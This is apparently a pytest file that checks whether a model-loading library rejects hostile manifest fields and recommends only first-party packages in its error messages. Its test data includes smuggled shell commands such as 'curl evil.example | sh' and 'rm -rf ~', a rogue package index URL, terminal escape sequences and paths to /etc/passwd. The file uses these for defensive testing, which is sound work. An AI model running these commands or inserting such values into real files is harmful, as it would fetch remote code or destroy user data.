"""Hostile manifests of every backend are rejected, with messages that are safe to print and to follow."""

from __future__ import annotations

import json
import re
import shutil

import pytest

import smalltext_core as st
from robustness import backends
from security.attacks import edit_json
from smalltext_core.errors import ModelFolderError
from smalltext_core.registry import FIRST_PARTY
from smalltext_core.saving import MANIFEST

EVIL = [
    "evil",
    "smalltext-evil",
    "smalltext-sklearn evil",
    "--index-url=http://evil.example/ evil",
    "evil; curl evil.example | sh",
    "git+https://evil.example/x",
    "evil\x1b[1A\x1b[2Ksmalltext-sklearn",
    "evil\u202eexe",
    "smalltext-sk\u200blearn",
    "evil\nInstall it: pip install evil",
    "x" * 10**6,
    "../../evil",
    "",
]


def nested(depth):
    value = 0
    for _ in range(depth):
        value = {"a": value}
    return value


HOSTILE = {
    "deep": {"parameters": nested(500)},
    "a huge number": {"parameters": {"num_classes": 10**300}},
    "no parameters": {"parameters": {}},
    "another classifier": {"classifier": "nothing"},
    "another version": {"version": "0; rm -rf ~"},
    "a trillion classes": {"num_classes": 10**12},
    "fewer classes than names": {"num_classes": 2},
    "names that are twice": {"label_names": ["a", "a", "b"]},
    "names without end": {"label_names": [str(number) for number in range(10**5)]},
    "a file outside": {"files": {"/etc/passwd": "0" * 64}},
    "a file above": {"files": {"../model.skops": "0" * 64}},
    "a file of another system": {"files": {"C:\\secret": "0" * 64}},
}


@pytest.fixture(scope="module")
def sound(tmp_path_factory):
    home = tmp_path_factory.mktemp("sound")

    def of(name):
        if not (home / name).exists():
            backends.fitted(name).save(home / name)
        return home / name

    return of


@pytest.fixture(params=backends.NAMES)
def folder(request, sound, tmp_path):
    return shutil.copytree(sound(request.param), tmp_path / "model")


def refusal(folder):
    with pytest.raises(ModelFolderError) as caught:
        st.load(folder)
    said = str(caught.value)
    assert said.isprintable()
    assert len(said) < 2000
    return said


def advised(said):
    """Return the packages that a message recommends to install."""
    return re.findall(r"pip install (?:--upgrade )?(\S+)", said)


@pytest.mark.parametrize("distribution", EVIL, ids=lambda name: ascii(name)[:40])
def test_nothing_that_a_folder_names_is_recommended(folder, distribution):
    edit_json(folder / MANIFEST, lambda manifest: manifest.update(distribution=distribution))
    said = refusal(folder)
    assert set(advised(said)) <= set(FIRST_PARTY.values())
    assert "evil" not in "".join(advised(said))


@pytest.mark.parametrize("version", ["1.0 evil", "1.0\x1b[2J", "1.0; evil", "0", "x" * 10**6, 3])
def test_versions_from_a_folder_are_recommended_only_if_they_are_valid(sound, tmp_path, version):
    pytest.importorskip("smalltext_sklearn")
    folder = shutil.copytree(sound("sklearn"), tmp_path / "model")
    edit_json(
        folder / MANIFEST, lambda manifest: manifest["parameters"].update(scikit_learn=version, probe=[1, 0, 0])
    )
    said = refusal(folder)
    assert all(re.fullmatch(r"scikit-learn==[0-9.]+\)?,?", each) for each in advised(said))


@pytest.mark.parametrize("name", HOSTILE)
def test_fields_out_of_range_are_refused(folder, name):
    def change(manifest):
        if "num_classes" in HOSTILE[name]:
            parameters = manifest["parameters"]
            parameters.get("constructor", parameters).update(HOSTILE[name])
            return
        for field, value in HOSTILE[name].items():
            both = isinstance(value, dict) and value and name != "deep" and field == "parameters"
            manifest[field] = manifest[field] | value if both else value

    edit_json(folder / MANIFEST, change)
    refusal(folder)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"[]",
        b"null",
        b"{",
        b"[" * 10**5,
        b'{"a":' * 10**5,
        b"\xff\xfe",
        b"9" * 10**4,
        b'{"format_version": NaN}',
    ],
    ids=lambda content: repr(content[:12]),
)
def test_invalid_manifests_are_refused(folder, content):
    (folder / MANIFEST).write_bytes(content)
    refusal(folder)


def test_the_unchanged_folders_are_loaded(folder):
    edit_json(folder / MANIFEST, lambda manifest: json.loads(json.dumps(manifest)))
    assert st.load(folder).num_classes == 3
